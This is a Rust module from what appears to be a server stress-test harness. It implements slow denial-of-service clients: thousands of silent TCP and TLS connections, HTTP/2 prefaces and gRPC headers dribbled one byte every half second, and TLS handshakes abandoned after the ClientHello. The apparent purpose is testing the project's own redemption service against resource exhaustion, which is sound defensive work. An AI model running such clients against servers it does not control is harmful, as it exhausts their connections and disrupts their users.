//! Clients that begin something and do not go on with it.

use std::{sync::Arc, time::Duration};

use rustls::ClientConnection;
use tokio::io::AsyncWriteExt as _;

use super::{Attacker, frames, until_closed};
use crate::{open_loop::open_loop, secure};

/// Connections that say nothing.
const SILENT: usize = 2_000;
/// Connections that say something slowly, and how slowly.
const SLOW: usize = 500;
const A_BYTE: Duration = Duration::from_millis(500);
/// Handshakes in a second that are not gone on with, and how many of them are kept at once.
const HANDSHAKES: f64 = 500.0;
const MOST_HANDSHAKES: u32 = 4_000;

pub(super) async fn silent(attacker: &Arc<Attacker>) -> anyhow::Result<()> {
    let connect = async |attacker: Arc<Attacker>, number: usize| {
        if number.is_multiple_of(2) {
            let tcp = attacker.tcp().await?;
            attacker.count(1);
            until_closed(tcp).await;
        } else {
            let tls = attacker.tls().await?;
            attacker.count(1);
            until_closed(tls).await;
        }
        anyhow::Ok(())
    };
    attacker.over_and_over(SILENT, connect).await
}

pub(super) async fn slow_prefaces(attacker: &Arc<Attacker>) -> anyhow::Result<()> {
    let all = Arc::new(frames::PREFACE.to_vec());
    let slow = move |attacker: Arc<Attacker>, _| slow(attacker, Vec::new(), Arc::clone(&all));
    attacker.over_and_over(SLOW, slow).await
}

pub(super) async fn slow_headers(attacker: &Arc<Attacker>) -> anyhow::Result<()> {
    let headers = frames::call("/holdfast.v1.RedemptionService/Redeem", &attacker.args.token);
    let block = Arc::new(frames::frame(frames::HEADERS, frames::END_HEADERS, 1, &headers));
    let slow =
        move |attacker: Arc<Attacker>, _| slow(attacker, frames::begin(None), Arc::clone(&block));
    attacker.over_and_over(SLOW, slow).await
}

/// Sends the beginning at once and the rest slowly, until the server closes the connection.
async fn slow(attacker: Arc<Attacker>, begins: Vec<u8>, rest: Arc<Vec<u8>>) -> anyhow::Result<()> {
    let (from, mut to) = tokio::io::split(attacker.tls().await?);
    attacker.count(1);
    to.write_all(&begins).await?;
    let send = async {
        for byte in rest.iter() {
            tokio::time::sleep(A_BYTE).await;
            if to.write_all(&[*byte]).await.is_err() || to.flush().await.is_err() {
                return;
            }
        }
    };
    tokio::select! { () = send => {}, () = until_closed(from) => {} }
    Ok(())
}

/// Clients that say hello, let the server answer with its certificate and signature, and say no more.
pub(super) async fn half_handshakes(attacker: &Arc<Attacker>) -> anyhow::Result<()> {
    let come = |_| {
        let attacker = Arc::clone(attacker);
        async move {
            let hello = || -> anyhow::Result<Vec<u8>> {
                let config = Arc::clone(&attacker.http2);
                let mut client = ClientConnection::new(config, secure::server_name()?)?;
                let mut hello = Vec::new();
                client.write_tls(&mut hello)?;
                Ok(hello)
            };
            let (Ok(hello), Ok(mut tcp)) = (hello(), attacker.tcp().await) else { return };
            if tcp.write_all(&hello).await.is_ok() {
                attacker.count(1);
                until_closed(tcp).await;
            }
        }
    };
    open_loop(HANDSHAKES, super::ALWAYS, MOST_HANDSHAKES, come).await;
    Ok(())
}
